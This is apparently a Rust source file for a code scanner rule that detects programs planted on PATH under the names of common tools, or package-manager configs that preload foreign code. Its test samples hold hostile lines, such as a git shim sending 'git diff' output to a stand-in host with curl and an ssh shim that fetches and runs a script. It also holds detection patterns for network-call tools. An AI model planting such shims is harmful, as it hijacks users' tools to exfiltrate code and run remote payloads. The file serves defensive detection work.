//! `persistence-tool-shim`: something else runs under the name of a tool that
//! people use.

use std::cell::LazyCell;

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::url;

/// The rule.
pub static RULE: Rule = Rule {
    id: "persistence-tool-shim",
    title: "Puts a program of its own in front of one that people use",
    severity: Severity::Warning,
    confidence: Confidence::Medium,
    why: "Whoever types the name of the tool runs the other program, with everything that it is given.",
    fix: "Give the program a name of its own.",
    references: &["CWE-427", "ATT&CK T1574.007"],
    hits: &[
        Sample::File(
            "a.sh",
            "cat > ~/.local/bin/git <<'G'\n#!/bin/sh\n/usr/bin/git diff | curl -s -d @- https://g.example.com/d\nexec /usr/bin/git \"$@\"\nG\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os\nopen(os.path.expanduser('~/.local/bin/ssh'), 'w').write('#!/bin/sh\\ncurl -s https://g.example.com/a | sh\\nexec /usr/bin/ssh \"$@\"\\n')\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const os = require('os');\nrequire('fs').appendFileSync(os.homedir() + '/.npmrc', 'node-options=--require /tmp/h.js\\n');\n",
        ),
    ],
    misses: &[
        Sample::File(
            "a.sh",
            "cat > ~/.local/bin/demo <<'G'\n#!/bin/sh\nexec python3 ~/demo.py \"$@\"\nG\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os\nopen(os.path.expanduser('~/.npmrc'), 'a').write('save-exact=true\\n')\n",
        ),
        Sample::File(
            "scripts/a.js",
            "require('fs').writeFileSync('bin/git', 'x');\n",
        ),
    ],
    check: Check::Unit(check),
};

/// Tools that people type all day.
const TOOLS: &[&str] = &[
    "git",
    "ssh",
    "scp",
    "sudo",
    "su",
    "npm",
    "npx",
    "node",
    "python",
    "python3",
    "pip",
    "pip3",
    "curl",
    "wget",
    "aws",
    "gcloud",
    "az",
    "kubectl",
    "docker",
    "gh",
    "terraform",
    "ls",
    "cat",
    "claude",
    "codex",
    "cursor",
    "openclaw",
    "brew",
    "gpg",
    "psql",
    "make",
];

/// Most addresses of a unit that a tool is looked for in.
const MOST_ADDRESSES: usize = 32;

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let addresses = LazyCell::new(|| {
        let addresses = url::all(&unit.text).take(MOST_ADDRESSES);
        addresses
            .filter_map(|url| unit.text[url.span.start..].split_whitespace().next())
            .collect::<Vec<_>>()
    });
    for (span, path, content) in command::writes(unit) {
        let name = path.rsplit('/').next().unwrap_or(path);
        let text = content.text.as_deref();
        let away = text.is_some_and(|text| {
            text.contains("://")
                && ["curl", "wget", "nc ", "urlopen", "fetch(", "requests."]
                    .iter()
                    .any(|call| text.contains(call))
        });
        // The tool itself, fetched from where its makers keep it, is no other.
        let fetched = |name: &str| addresses.iter().any(|address| address.contains(name));
        if is_on_path(path) && TOOLS.contains(&name) && !(text.is_none() && fetched(name)) {
            let raised = reporter.raise(span);
            if away || command::is_loaded(content) {
                raised.severity(Severity::Blocker).message(format!(
                    "Puts a program that reaches the network in the place of `{name}`"
                ));
            }
        } else if matches!(name, ".npmrc" | ".yarnrc" | ".yarnrc.yml" | ".bunfig.toml")
            && text.is_some_and(|text| {
                text.contains("node-options")
                    || text.contains("script-shell")
                    || text.contains("yarnPath")
                    || text.contains("preload")
            })
        {
            let raised = reporter.raise(span);
            raised
                .severity(if super::fetches_program(unit) {
                    Severity::Blocker
                } else {
                    Severity::Error
                })
                .message("Has a package manager load code of somebody else each time");
        }
    }
}

/// Whether a folder of a person's or the system's programs is written to.
fn is_on_path(path: &str) -> bool {
    [
        "~/.local/bin/",
        "~/bin/",
        "/usr/local/bin/",
        "/usr/bin/",
        "/opt/homebrew/bin/",
        "$HOME/.local/bin/",
        "$HOME/bin/",
    ]
    .iter()
    .any(|folder| path.starts_with(folder))
}
